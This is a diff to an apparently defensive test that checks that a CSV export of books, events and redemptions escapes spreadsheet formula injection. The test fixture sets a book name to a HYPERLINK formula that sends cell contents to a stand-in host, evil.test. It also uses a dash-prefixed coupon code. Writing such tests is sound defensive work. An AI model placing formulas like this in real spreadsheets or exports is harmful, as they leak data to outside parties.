@@ -257,20 +257,16 @@ describe('as CSV', () => {
   });
 
   test('has no cell that a spreadsheet would run', async () => {
-    const book = await insertBook(t.db, 1);
+    const book = await insertBook(t.db, 0);
     await sql`UPDATE books SET name = '=HYPERLINK("http://evil.test?"&A1)' WHERE id = ${book.id}`.execute(
       t.db,
     );
-    await sql`UPDATE coupons SET code = ${`-${randomUUID()}`.toUpperCase()} WHERE book_id = ${book.id}`.execute(
-      t.db,
-    );
-    const { rows } = await sql<{ code: string }>`SELECT code FROM coupons WHERE book_id = ${book.id}`.execute(
-      t.db,
-    );
-    await spend({ ...book, codes: [rows[0]!.code] }, 1);
+    const code = `-${randomUUID()}`.toUpperCase();
+    await sql`INSERT INTO coupons (book_id, code) VALUES (${book.id}, ${code})`.execute(t.db);
+    await spend({ ...book, codes: [code] }, 1);
     for (const list of ['events', 'redemptions']) {
       const { text } = await get(`/api/v1/${list}?bookId=${book.id}`, csv);
-      expect(text).toContain(`,'${rows[0]!.code},`);
+      expect(text).toContain(`,'${code},`);
       expect(text).toContain(`"'=HYPERLINK(`);
       const cells = (parse(text) as string[][]).flat();
       expect(cells.filter((cell) => /^[=+@\t\r-]/.test(cell))).toEqual([]);
